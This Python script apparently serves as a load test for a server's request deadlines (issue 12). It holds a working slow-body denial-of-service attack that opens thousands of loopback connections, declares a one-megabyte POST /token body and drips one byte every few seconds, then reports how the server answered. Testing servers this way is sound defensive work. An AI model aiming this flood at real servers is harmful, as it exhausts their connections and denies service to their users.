"""The slow-body attack of issue 12, as one attacker process: CONNECTIONS sockets from the given
loopback source addresses, each sending `POST /token` with `Content-Length: 1000000` and then one
body byte every INTERVAL seconds, reconnecting (after INTERVAL) whenever the server answers or
closes. Standard library only; raises its own descriptor limit to the hard limit.

    python3 slow_bodies.py --port P --sources 127.0.0.2,127.0.0.3 --connections 5000 \
        --duration 25 --interval 3 --max-held 15

Prints `ready` once every socket has been opened once, then one JSON line at the end: attempts,
answers by status (503 at accept, 408 when cut), the longest a connection was held before its
answer, and `stuck`: connections the server kept longer than MAX_HELD seconds without answering
(a deadline that bytes extend, or no deadline at all, shows here).
"""

from __future__ import annotations

import argparse
import errno
import heapq
import json
import random
import resource
import selectors
import socket
import sys
import time

IP_BIND_ADDRESS_NO_PORT = getattr(socket, "IP_BIND_ADDRESS_NO_PORT", 24)


class Attack:
    def __init__(self, args: argparse.Namespace) -> None:
        self.args = args
        self.head = (
            f"POST /token HTTP/1.1\r\nHost: 127.0.0.1:{args.port}\r\n"
            "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000000\r\n\r\n"
        ).encode()
        self.selector = selectors.DefaultSelector()
        self.timers: list[tuple[float, int, int]] = []  # (when, generation, slot)
        self.sockets: list[socket.socket | None] = [None] * args.connections
        self.generation = [0] * args.connections
        self.opened_at = [0.0] * args.connections
        self.sources = args.sources.split(",")
        self.stats = {
            "attempts": 0, "answers": {}, "closed_without_answer": 0, "connect_errors": 0,
            "max_held_seconds": 0.0, "max_open": 0, "stuck": 0,
        }
        self.open = 0

    def schedule(self, slot: int, delay: float) -> None:
        heapq.heappush(self.timers, (time.monotonic() + delay, self.generation[slot], slot))

    def connect(self, slot: int) -> None:
        self.generation[slot] += 1
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        sock.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
        try:
            sock.bind((self.sources[slot % len(self.sources)], 0))
            sock.connect_ex(("127.0.0.1", self.args.port))
        except OSError:
            sock.close()
            self.stats["connect_errors"] += 1
            self.schedule(slot, self.args.interval)
            return
        self.stats["attempts"] += 1
        self.sockets[slot] = sock
        self.opened_at[slot] = time.monotonic()
        self.open += 1
        self.stats["max_open"] = max(self.stats["max_open"], self.open)
        self.selector.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE, slot)

    def finish(self, slot: int, answer: bytes) -> None:
        sock = self.sockets[slot]
        held = time.monotonic() - self.opened_at[slot]
        if answer.startswith(b"HTTP/1.1 "):
            status = answer[9:12].decode(errors="replace")
            self.stats["answers"][status] = self.stats["answers"].get(status, 0) + 1
            if status != "503":  # a 503 comes at accept; a held connection ends with 408
                self.stats["max_held_seconds"] = max(self.stats["max_held_seconds"], held)
        else:
            self.stats["closed_without_answer"] += 1
        self.selector.unregister(sock)
        sock.close()
        self.sockets[slot] = None
        self.open -= 1
        self.generation[slot] += 1
        refused = answer.startswith(b"HTTP/1.1 503")
        self.schedule(slot, random.uniform(*self.args.retry) if refused else self.args.interval * random.uniform(0.5, 1.5))

    def on_event(self, slot: int, mask: int) -> None:
        sock = self.sockets[slot]
        if mask & selectors.EVENT_READ:
            try:
                answer = sock.recv(4096)
            except OSError:
                answer = b""
            self.finish(slot, answer)
            return
        if mask & selectors.EVENT_WRITE:
            error = sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            if error:
                self.stats["connect_errors"] += 1
                self.finish(slot, b"")
                return
            self.selector.modify(sock, selectors.EVENT_READ, slot)
            try:
                sock.send(self.head)
            except OSError:
                self.finish(slot, b"")
                return
            self.schedule(slot, self.args.interval * random.uniform(0.1, 1.0))

    def on_timer(self, slot: int) -> None:
        sock = self.sockets[slot]
        if sock is None:
            self.connect(slot)
            return
        try:
            sock.send(b"x")
        except OSError as error:
            if error.errno not in (errno.EAGAIN, errno.EWOULDBLOCK):
                return  # the read side reports the answer or the close
        self.schedule(slot, self.args.interval)

    def run(self) -> None:
        ramp = self.args.ramp
        for slot in range(self.args.connections):
            self.schedule(slot, ramp * slot / self.args.connections)
        started = time.monotonic()
        ready = False
        while time.monotonic() - started < self.args.duration:
            now = time.monotonic()
            while self.timers and self.timers[0][0] <= now:
                _, generation, slot = heapq.heappop(self.timers)
                if generation == self.generation[slot]:  # else the socket it was for is gone
                    self.on_timer(slot)
            if not ready and now - started >= ramp:
                ready = True
                print("ready", flush=True)
            timeout = max(0.0, min(0.05, self.timers[0][0] - now)) if self.timers else 0.05
            for key, mask in self.selector.select(timeout):
                if self.sockets[key.data] is not None:
                    self.on_event(key.data, mask)
        now = time.monotonic()
        for slot, sock in enumerate(self.sockets):
            if sock is not None and now - self.opened_at[slot] > self.args.max_held:
                self.stats["stuck"] += 1
                self.stats["max_held_seconds"] = max(self.stats["max_held_seconds"], now - self.opened_at[slot])
        print(json.dumps(self.stats), flush=True)


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--sources", required=True)
    parser.add_argument("--connections", type=int, required=True)
    parser.add_argument("--duration", type=float, required=True)
    parser.add_argument("--interval", type=float, default=3.0)
    parser.add_argument("--ramp", type=float, default=3.0)
    parser.add_argument("--max-held", type=float, default=15.0)
    parser.add_argument("--retry", type=float, nargs=2, default=(15.0, 30.0), help="seconds before retrying a 503")
    args = parser.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    if hard < args.connections + 64:
        sys.exit(f"slow_bodies.py: the descriptor limit {hard} is below {args.connections} connections")
    Attack(args).run()


main()
